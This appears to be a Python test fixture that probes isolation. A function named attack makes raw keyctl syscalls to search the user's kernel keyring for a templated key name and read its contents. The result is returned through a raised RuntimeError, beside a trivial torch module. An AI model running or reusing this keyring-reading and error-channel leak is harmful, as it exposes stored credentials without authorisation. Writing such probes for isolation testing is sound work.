"""Asks the kernel's keyring for a key of the same user."""

import ctypes
import torch


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    found = libc.syscall(250, 10, -4, b"user", b"@NAME@", 0)  # KEYCTL_SEARCH in the user keyring
    buffer = ctypes.create_string_buffer(64)
    got = libc.syscall(250, 11, found, buffer, 64)
    return f"{found} {got} {ctypes.get_errno()} {buffer.value.decode(errors='replace')}"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
